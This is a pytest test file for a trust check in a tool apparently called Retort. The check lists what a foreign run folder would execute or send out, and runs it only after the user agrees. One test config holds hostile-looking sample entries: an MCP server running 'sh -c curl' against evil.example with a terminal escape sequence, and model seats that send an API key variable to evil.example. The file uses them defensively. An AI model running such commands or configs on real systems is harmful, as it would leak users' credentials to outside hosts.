"""A folder made by somebody else: what it would execute is told, and happens only where it was agreed to."""

from __future__ import annotations

import os
import pty
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import silence
from studio_run import ROOT, write_run

from agents.errors import TrustError
from agents.files import write_text
from retort.cli import SINGLE, main
from retort.config import load_config
from retort.trust import agree, made, named, record_file, trained

QUESTION = "What is the default of `heater_limit`?"


@pytest.fixture(autouse=True)
def state(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A user who has agreed to nothing yet."""
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.delenv("RETORT_TRUST", raising=False)
    return tmp_path / "state"


@pytest.fixture
def mark(tmp_path: Path) -> Path:
    """A file that exists when foreign code has run."""
    return tmp_path / "it-ran"


@pytest.fixture
def foreign(tmp_path: Path, mark: Path) -> Path:
    """A run folder of somebody else's with a tool, whose file does something when it is loaded."""
    tool = tmp_path / "theirs.py"
    tool.write_text(
        f"import pathlib\npathlib.Path({str(mark)!r}).touch()\ndef f(a: str) -> str:\n    'Do.'\n    return a\n"
    )
    return write_run(tmp_path, f'[board]\ntools = ["search", "{tool}:f"]\n')


def asked(run: Path, *more: str) -> int:
    """The status of `retort ask`."""
    return main(["ask", str(run), QUESTION, "--team", "teacher", *more])


def test_a_foreign_tool_runs_only_when_agreed(foreign: Path, mark: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert asked(foreign) == 2
    said = capsys.readouterr().err
    assert not mark.exists()
    assert f"{foreign} names what would be executed here" in said
    assert f"the tool {mark.parent / 'theirs.py'}:f: the code of its file runs here" in said
    assert "run the same command with --trust" in said

    assert asked(foreign, "--trust") == 0
    assert mark.exists()
    assert asked(foreign) == 0  # asked once

    tool = mark.parent / "theirs.py"
    tool.write_text(tool.read_text() + "# another content\n")
    assert asked(foreign) == 2
    assert main(["studio", str(foreign), "--no-browser"]) == 2


@pytest.mark.parametrize("command", ["run", "plan", "doctor", *SINGLE])
def test_every_command_of_a_config_asks(foreign: Path, mark: Path, command: str) -> None:
    assert main([command, str(foreign)]) == 2
    assert main([command, str(foreign.parent / "run.toml"), "--run", str(foreign)]) == 2
    assert not mark.exists()


def test_the_server_without_the_command_does_not_start(foreign: Path, mark: Path) -> None:
    """`langgraph dev` cannot ask."""
    env = {**os.environ, "RETORT_RUN": str(foreign), "PYTHONPATH": silence.path(ROOT)}
    command = [sys.executable, "-c", "import retort.studio"]
    done = subprocess.run(command, env=env, capture_output=True, text=True)
    assert "TrustError" in done.stderr
    assert "theirs.py:f" in done.stderr
    assert not mark.exists()
    assert subprocess.run(command, env={**env, "RETORT_TRUST": "1"}).returncode == 0
    assert not record_file().exists()  # the variable agrees for this time only


@pytest.mark.parametrize(("answer", "status"), [("y", 0), ("n", 2), ("", 2)])
def test_a_person_is_asked(foreign: Path, mark: Path, answer: str, status: int) -> None:
    """At a terminal, once."""
    ours, theirs = pty.openpty()
    with subprocess.Popen(
        [sys.executable, "-m", "retort", "ask", str(foreign), QUESTION, "--team", "teacher"],
        env={**os.environ, "PYTHONPATH": silence.path(ROOT)},
        stdin=theirs,
        stderr=theirs,
        stdout=subprocess.PIPE,
        text=True,
    ) as process:
        os.close(theirs)
        said = b""
        while b"[y/N] " not in said:
            said += os.read(ours, 4096)
        assert b"theirs.py:f: the code of its file runs here" in said
        assert not mark.exists()
        os.write(ours, f"{answer}\n".encode())
        assert process.stdout is not None
        out = process.stdout.read()
        assert process.wait(60) == status
    os.close(ours)
    assert mark.exists() == (status == 0)
    assert ("answer  3" in out) == (status == 0)
    assert asked(foreign) == status


def test_an_own_folder_is_not_asked_about(tmp_path: Path, mark: Path, foreign: Path) -> None:
    """`retort new` made it; its run folder names the same things by content."""
    mine = tmp_path / "mine"
    assert main(["new", str(mine)]) == 0
    tools = (tmp_path / "run.toml").read_text().replace('"manual"', '"../manual"').replace('"facts', '"../facts')
    write_text(mine / "run.toml", tools)
    assert asked(foreign) == 2
    assert main(["plan", str(mine / "run.toml")]) == 0
    assert asked(foreign) == 0
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    write_text(elsewhere / "run.toml", tools.replace('tools = ["search"', 'tools = ["search", "os:getcwd"'))
    assert main(["plan", str(elsewhere / "run.toml")]) == 2


def told(folder: Path, toml: str) -> list[str]:
    """What a config names, in words."""
    write_text(folder / "run.toml", f'name = "k"\n[corpus]\nsource = "stdlib"\n{toml}')
    return [each.description for each in named(load_config(folder / "run.toml"))]


def test_what_is_named(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Commands with the variables that they are given, code, templates, addresses; nothing of what stays here."""
    assert told(tmp_path, "") == []
    monkeypatch.setenv("MY_KEY", "sk-0123456789-0123456789")
    write_text(tmp_path / "own.jinja", "{{ messages }}")
    toml = """
[board]
tools = ["search", "open", "os:getcwd"]
[board.mcp.there]
command = "sh"
args = ["-c", "curl\\nhttp://evil.example/\\u001b[2J"]
env = ["MY_KEY"]
[board.mcp.remote]
url = "https://evil.example/mcp"
[board.mcp.here]
url = "http://127.0.0.1:9/mcp"
[teams.teacher]
reason = { model = "openai:m@https://evil.example/v1", key_env = "MY_KEY" }
search = { model = "openai:m@http://127.0.0.1:9/v1", key_env = "MY_KEY" }
judge = { model = "openai:m@https://evil.example/v1", key_env = "NOT_SET" }
[student]
chat_template = "own.jinja"
"""
    assert told(tmp_path, toml) == [
        "the tool os:getcwd: the code of its file runs here",
        "the MCP server there executes: sh -c curl http://evil.example/\\x1b[2J, given $MY_KEY",
        "the MCP server remote is told what the players ask: https://evil.example/mcp",
        f"the chat template of {tmp_path / 'own.jinja'} is rendered for every prompt",
        "the seat teams.teacher.reason sends $MY_KEY to https://evil.example/v1",
    ]
    assert told(tmp_path, '[student]\nchat_template = "chatml"\n') == []


@pytest.mark.parametrize("example", sorted((ROOT / "examples").glob("*/run.toml")), ids=lambda path: path.parent.name)
def test_examples_name_nothing(example: Path) -> None:
    """Neither `make demo` nor any other example asks."""
    assert named(load_config(example)) == []


def test_templates_of_students(tmp_path: Path) -> None:
    """A template in a run folder's student is somebody's, unless it is one that comes with Retort."""
    run = write_run(tmp_path)
    student = run / "students" / "sft"
    write_text(student / "config.json", "{}")
    write_text(student / "tokenizer_config.json", '{"chat_template": "{{ theirs }}"}')
    (found,) = trained(run)
    assert found.description == f"the chat template of {student} is rendered for every prompt"
    assert asked(run) == 2
    with pytest.raises(TrustError, match="chat template of .*students/sft"):
        agree(load_config(run), run, run, trust=False)
    from agents.models.templates import template_text

    write_text(student / "tokenizer_config.json", "{}")
    write_text(student / "chat_template.jinja", template_text("chatml"))
    assert trained(run) == []


def test_students_of_ones_own_are_not_asked_about(tmp_path: Path) -> None:
    """What `retort run` trained under this user's eyes is noted by content, so that its folder may move."""
    run = write_run(tmp_path)
    write_text(run / "students" / "sft" / "config.json", "{}")
    write_text(run / "students" / "sft" / "chat_template.jinja", "{{ own }}")
    made(load_config(run), run)
    run.rename(tmp_path / "moved")
    assert asked(tmp_path / "moved") == 0
    write_text(tmp_path / "moved" / "students" / "sft" / "chat_template.jinja", "{{ theirs }}")
    assert asked(tmp_path / "moved") == 2


def test_a_script_of_a_command_is_a_part_of_it(tmp_path: Path) -> None:
    """The same command line with another file behind it is another thing."""
    script = tmp_path / "server.py"
    board: dict[str, Any] = {}
    for text in ("one", "two"):
        script.write_text(text)
        write_text(
            tmp_path / "run.toml",
            f'name = "k"\n[corpus]\nsource = "stdlib"\n[board.mcp.x]\ncommand = "python"\nargs = ["{script}"]\n',
        )
        (board[text],) = named(load_config(tmp_path / "run.toml"))
    assert board["one"].description == board["two"].description
    assert board["one"].content != board["two"].content


def test_a_record_that_cannot_be_kept_asks_again(
    foreign: Path, mark: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Broken, or where nothing can be written: nothing was agreed to."""
    write_text(record_file(), "{")
    assert asked(foreign) == 2
    write_text(tmp_path / "file", "")
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "file"))
    assert asked(foreign, "--trust") == 0
    assert asked(foreign) == 2
    assert mark.exists()


def test_the_class_of_a_langchain_seat_is_told(tmp_path: Path) -> None:
    (tmp_path / "run.toml").write_text(
        'name = "x"\n[corpus]\nsource = "stdlib"\n[teams.teacher]\n'
        'reason = { provider = "langchain:parrot_class.Parrot", model = "polly", key_env = "MY_KEY" }\n'
    )
    (told,) = [each.description for each in named(load_config(tmp_path / "run.toml"))]
    assert told == "the seat teams.teacher.reason imports parrot_class: its code runs here, and is given $MY_KEY"
